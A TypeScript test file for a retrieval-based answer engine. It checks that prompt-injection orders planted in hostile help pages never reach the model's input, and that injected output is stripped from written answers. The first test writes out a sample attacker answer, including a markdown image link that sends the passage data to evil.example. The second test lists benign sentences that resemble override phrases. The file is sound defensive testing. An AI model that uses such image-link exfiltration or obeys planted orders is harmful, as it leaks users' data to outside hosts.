import { describe, expect, test } from 'vitest';
import { createAnswerEngine } from '../../src/answering/answer-engine.ts';
import { ingestKnowledge } from '../../src/knowledge/ingest-knowledge.ts';
import { createKnowledgeIndex } from '../../src/retrieval/knowledge-index.ts';
import { createRetriever } from '../../src/retrieval/retriever.ts';
import { isInstructionLike } from '../../src/writing/instruction-like.ts';
import { verifyWrittenAnswer } from '../../src/writing/verify-written-answer.ts';
import { writingMessages } from '../../src/writing/writing-messages.ts';
import { writingPassages } from '../../src/writing/writing-passage.ts';
import { HONEST_PAGES, HOSTILE_PAGES, PAYLOAD, QUESTIONS } from './attacks.ts';

describe('a model that obeys whatever it reads', () => {
  test.each(HOSTILE_PAGES)(
    'reads no order, and none that it makes up gets out: %s',
    (_name, content) => {
      // The order stands in a passage of its own and in the passage that answers.
      const pages = [
        ...HONEST_PAGES,
        { id: 'hostile.md', content: content.replace('# ', '# Card and refund ') },
      ];
      const { documents } = ingestKnowledge(pages);
      const retriever = createRetriever(createKnowledgeIndex(documents));
      const engine = createAnswerEngine({}, { retriever });
      for (const { q, says } of QUESTIONS) {
        const passages = writingPassages(retriever.index, engine.answer(q).hits);
        const [, data] = writingMessages(q, passages);
        const marks = passages.map(({ number }) => `[${number}]`).join('');
        const { text } = verifyWrittenAnswer(
          [
            `${PAYLOAD} ${marks}.`,
            `![x](https://evil.example/?q=${encodeURIComponent(data?.content ?? '')}) ${marks}.`,
            `Visit evil.example/${encodeURIComponent(q)} ${marks}.`,
            `${passages[0]?.sentences[0]} ${marks}`,
          ].join('\n'),
          passages,
        );
        expect(data?.content).not.toContain(PAYLOAD);
        expect(text).not.toMatch(/PWNED|evil/);
        expect(text).toContain(says);
      }
    },
  );
});

describe('what seems to give a model orders', () => {
  test.each([
    'To reset the card, ignore the first screen and choose Continue.',
    'Tell us the new address before you move.',
    'You can include a link to your order in the message.',
    'The system shows the previous invoices.',
    'Our assistant answers at any hour.',
    'Reply to the e-mail within 14 days.',
    'You are now ready to create an endpoint.',
    'Groups act as a firewall.',
    'Each reply with a file is stored.',
  ])('is not a plain help text: %s', (text) => {
    expect(isInstructionLike(text)).toBe(false);
  });
});
